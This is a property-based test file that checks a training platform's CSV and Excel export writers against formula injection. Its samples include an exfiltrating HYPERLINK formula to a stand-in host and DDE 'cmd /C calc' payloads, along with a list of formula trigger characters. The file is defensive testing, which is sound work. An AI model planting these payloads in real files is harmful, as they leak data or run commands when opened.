/**
 * Every file the product writes for spreadsheets, filled with text an attacker chose, read back
 * the way Excel would: csv-parse for CSV, exceljs for XLSX. The oracle is written here on its own
 * (not the writer's regular expression), so a writer that forgets a character fails.
 */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { attendanceCsv, attendanceXlsx } from '../../shared/attendance/report-files';
import { feedbackSummaryCsv, feedbackSummaryXlsx } from '../../shared/exports/feedback-summary';
import { cascadeSheets, multipliersSheets, regionSheets } from '../../shared/exports/reports';
import type { Metrics } from '../../shared/domain/reports';
import { csvText, xlsxBuffer, type Cell, type Sheet } from '../../shared/exports/spreadsheet';
import type { AttendanceReport } from '../../shared/usecases/attendance';
import type { FeedbackSummaryView } from '../../shared/usecases/feedback';
import type { CascadeReport, MultipliersReport, RegionReport } from '../../shared/usecases/reports';
import { summaryView } from '../support/feedback-views';

// What Excel, LibreOffice and Google Sheets treat as the start of a formula (OWASP's list, and
// the full-width forms Apple Numbers folds into them).
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const PLAIN_NUMBER = /^-?\d+(?:[.,]\d+)?(?:e[+-]?\d+)?$/i;

/** The cell would be evaluated: it, or a line of it, starts with a trigger (numbers aside). */
function evaluated(text: string): boolean {
  if (PLAIN_NUMBER.test(text)) return false;
  if (TRIGGERS.some((trigger) => text.startsWith(trigger))) return true;
  return text.split(/\r\n|\r|\n/).some((line) => TRIGGERS.some((trigger) => line.startsWith(trigger)));
}

const samples = [
  '=HYPERLINK("http://evil.example/?"&A1,"Іңкәр")',
  '+7 701 000 00 00',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\r\n=1+1',
  'Әсел\n=1+1',
  'Мектеп №12\r-1',
  'мұғалім\r\n@x',
  'first\n\t=tab',
  '\uFF1D1+1',
  'a "quoted"; =1+1',
  '==',
  '-',
  '',
  'Ғалымжанқызы Әлия',
];

/** Hostile text: a trigger somewhere at a line start, quotes, delimiters, line breaks. */
const hostileText = fc.oneof(
  fc.constantFrom(...samples),
  fc
    .array(
      fc.tuple(
        fc.constantFrom('', ...TRIGGERS, "'", '"', ';', ' '),
        fc.string({ maxLength: 12 }),
        fc.constantFrom('', '\n', '\r', '\r\n', ';', '"'),
      ),
      { minLength: 1, maxLength: 4 },
    )
    .map((parts) => parts.map((part) => part.join('')).join('')),
);

function csvRows(text: string): string[][] {
  return parse(text, { bom: true, delimiter: ';', relax_column_count: true });
}

async function xlsxCells(binary: Buffer): Promise<ExcelJS.Cell[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(binary).buffer);
  const cells: ExcelJS.Cell[] = [];
  workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
  return cells;
}

function expectNoFormulaInCsv(text: string): string[][] {
  const rows = csvRows(text);
  for (const cell of rows.flat()) expect(evaluated(cell), JSON.stringify(cell)).toBe(false);
  return rows;
}

async function expectNoFormulaInXlsx(binary: Buffer): Promise<ExcelJS.Cell[]> {
  const cells = await xlsxCells(binary);
  for (const cell of cells) {
    expect(cell.type, cell.address).not.toBe(ExcelJS.ValueType.Formula);
    if (typeof cell.value === 'string') expect(evaluated(cell.value), JSON.stringify(cell.value)).toBe(false);
  }
  return cells;
}

/** What a reader sees, apostrophes aside: the writer neutralises, it never drops text. */
function withoutApostrophes(text: string): string {
  return text.replaceAll("'", '');
}

describe('the shared writers', () => {
  it('keep every row a row and every text cell inert, whatever the text (CSV)', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.oneof(hostileText, fc.integer({ min: -1000, max: 1000 })), { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 6 }), (rows) => {
        const parsed = expectNoFormulaInCsv(csvText(rows));
        expect(parsed).toHaveLength(rows.length);
        rows.forEach((row, r) =>
          row.forEach((cell, c) => {
            const read = parsed[r]![c]!;
            // Numbers stay numbers (a negative one keeps its sign, no apostrophe).
            if (typeof cell === 'number') expect(read).toBe(String(cell));
            else expect(withoutApostrophes(read)).toBe(withoutApostrophes(cell));
          }),
        );
      }),
      { numRuns: 200 },
    );
  });

  it('quote every field that holds a CR or an LF, so no line break ends a row', () => {
    const text = csvText([['a\nb', 'c\rd', 'e\r\nf', 'plain']]);
    expect(text).toBe('\uFEFF"a\nb";"c\rd";"e\r\nf";plain\r\n');
  });

  it('leave no physical line of a CSV starting with a trigger (a tool that splits on line breaks)', () => {
    fc.assert(
      fc.property(fc.array(fc.array(hostileText, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 }), (rows) => {
        const lines = csvText(rows).replace(/^\uFEFF/, '').split(/\r\n|\r|\n/);
        for (const line of lines) expect(TRIGGERS.some((trigger) => line.startsWith(trigger)), JSON.stringify(line)).toBe(false);
      }),
      { numRuns: 200 },
    );
  });

  it('keep every text cell inert and numbers numeric in a workbook', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(fc.oneof(hostileText, fc.double({ min: -1e6, max: 1e6, noNaN: true }).map((value) => (Object.is(value, -0) ? 0 : value))), { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 }), async (rows) => {
        const workbook = new ExcelJS.Workbook();
        await workbook.xlsx.load(new Uint8Array(await xlsxBuffer([{ name: 'S', rows }])).buffer);
        const sheet = workbook.getWorksheet('S')!;
        rows.forEach((row, r) =>
          row.forEach((cell, c) => {
            const read = sheet.getRow(r + 1).getCell(c + 1);
            expect(read.type).not.toBe(ExcelJS.ValueType.Formula);
            if (typeof cell === 'number') {
              expect(read.value).toBe(cell);
            } else if (cell !== '') {
              expect(typeof read.value).toBe('string');
              expect(evaluated(read.value as string), JSON.stringify(read.value)).toBe(false);
              // XML keeps LF only: a CR comes back as LF, like Excel's own files.
              expect(withoutApostrophes(read.value as string)).toBe(withoutApostrophes(cell).replace(/\r\n?/g, '\n'));
            }
          }),
        );
      }),
      { numRuns: 25 },
    );
  });
});

// The product's own files, with every piece of user text hostile.
const title = samples[0]!;
const name = samples[3]!;
const school = samples[8]!;
const topic = samples[11]!;
const answer = samples[7]!;

const attendance: AttendanceReport = {
  trainingId: 'T1',
  title: { kk: title, ru: samples[2]!, en: samples[4]! },
  language: 'kk',
  sessions: [{ id: 's1', startsAt: '2026-12-01T05:00:00.000Z', endsAt: '2026-12-01T08:00:00.000Z', hours: 3 }],
  plannedHours: 3,
  completionThreshold: 0.8,
  requiredHours: 2.4,
  feedbackRequired: true,
  participants: samples.map((fullName, index) => ({
    registrationId: `r${index}`,
    fullName,
    email: `${samples[(index + 1) % samples.length]}@school.kz`,
    sessions: { s1: 'present' },
    minutes: {},
    attendedHours: -index,
    feedbackSubmitted: index % 2 === 0,
    completed: false,
  })),
};

function feedbackView(): FeedbackSummaryView {
  const responses = samples.slice(0, 6).map((text) => ({
    trainingId: 't',
    ratings: { overall: 5, relevance: 4, trainer: 5, materials: 3, recommend: 5 },
    answers: { influence: text, change: answer, sustain: school, benefits: topic, challenges: name, unique: title },
  }));
  return summaryView(responses, { title });
}

const cascade: CascadeReport = {
  root: { trainingId: 'root', title, region: 'almaty', level: 0, trainerName: name },
  summary: { multipliers: 1, trainingsHeld: 1, reach: 3, multiplicationFactor: 1.5, dropOffByLevel: [{ level: 0, certified: 2, deliveredNext: 1, dropOffRate: 0.5 }], medianDaysToFirstTraining: 12 },
  nodes: samples.map((text, index) => ({ trainingId: `n${index}`, parentTrainingId: 'root', level: 1, region: 'almaty', title: text, trainerName: samples[(index + 5) % samples.length]!, certified: index })),
};

const multipliers: MultipliersReport = {
  items: samples.map((text, index) => ({ trainerSub: `sub-${index}`, name: text, region: 'almaty', certificateNumber: samples[(index + 2) % samples.length]!, trainingsHeld: index, reach: -index })),
};

const metrics: Metrics = {
  trainingsScheduled: 3, trainingsHeld: 2, trainingsCancelled: 1, registrations: 40, confirmed: 30, completed: 25,
  certificatesIssued: 25, certificatesRevoked: 1, activeMultipliers: 2, teachersReached: 24, feedbackResponses: 24, meanRating: 4.5,
  meanRatingWithheld: false, feedbackResponseRate: 0.8,
};

// Topic names are an admin's free text: the "By topic" sheet shows them.
const region: RegionReport = {
  region: 'almaty', from: '2026-01', to: '2026-02', totals: metrics,
  byLevel: [{ level: 1, metrics }],
  byTopic: samples.map((text, index) => ({ topic: `t-${index}`, name: { kk: text, ru: topic, en: samples[(index + 3) % samples.length]! }, metrics })),
  byMonth: [{ month: '2026-01', metrics }, { month: '2026-02', metrics }],
};

function reportSheets(): Sheet[] {
  return [...cascadeSheets(cascade), ...multipliersSheets(multipliers), ...regionSheets(region)];
}

describe('every export holds no cell a spreadsheet would evaluate', () => {
  it('attendance: titles, names and emails', async () => {
    for (const language of ['kk', 'ru', 'en'] as const) {
      const rows = expectNoFormulaInCsv(attendanceCsv(attendance, language).text);
      expect(rows).toHaveLength(attendance.participants.length + 1);
      expect(rows.map((row) => withoutApostrophes(row[0]!))).toContain(withoutApostrophes(name));
      const cells = await expectNoFormulaInXlsx((await attendanceXlsx(attendance, language)).binary);
      // Hours stay numbers, negative or not.
      expect(cells.filter((cell) => typeof cell.value === 'number').map((cell) => cell.value)).toContain(-3);
    }
  });

  it('feedback summary: the title and every answer', async () => {
    const rows = expectNoFormulaInCsv(feedbackSummaryCsv(feedbackView(), 'ru'));
    const texts = rows.flat().map(withoutApostrophes);
    for (const text of [title, answer, school, topic, name]) expect(texts).toContain(withoutApostrophes(text));
    const cells = await expectNoFormulaInXlsx(await feedbackSummaryXlsx(feedbackView(), 'en'));
    expect(cells.map((cell) => (typeof cell.value === 'string' ? withoutApostrophes(cell.value) : cell.value))).toContain(withoutApostrophes(answer));
  });

  it('reports: training titles, trainer names, certificate numbers and topic names', async () => {
    for (const sheet of reportSheets()) {
      const rows = expectNoFormulaInCsv(csvText(sheet.rows));
      expect(rows).toHaveLength(sheet.rows.length);
    }
    const cells = await expectNoFormulaInXlsx(await xlsxBuffer(reportSheets(), { title }));
    const numbers = cells.filter((cell) => typeof cell.value === 'number').map((cell) => cell.value);
    expect(numbers).toContain(-5);
    expect(numbers).toContain(1.5);
    expect(numbers).toContain(4.5);
    const topicSheet = reportSheets().find((sheet) => sheet.name === 'By topic')!;
    expect(topicSheet.rows).toHaveLength(samples.length + 1);
  });

  it('a quoted hostile cell reads back whole: nothing after a line break becomes a new row', () => {
    const rows: Cell[][] = [['id', 'name'], ['1', 'Әсел\r\n=1+1;"x"\n@y']];
    const parsed = expectNoFormulaInCsv(csvText(rows));
    expect(parsed).toEqual([['id', 'name'], ['1', "Әсел\r\n'=1+1;\"x\"\n'@y"]]);
  });
});
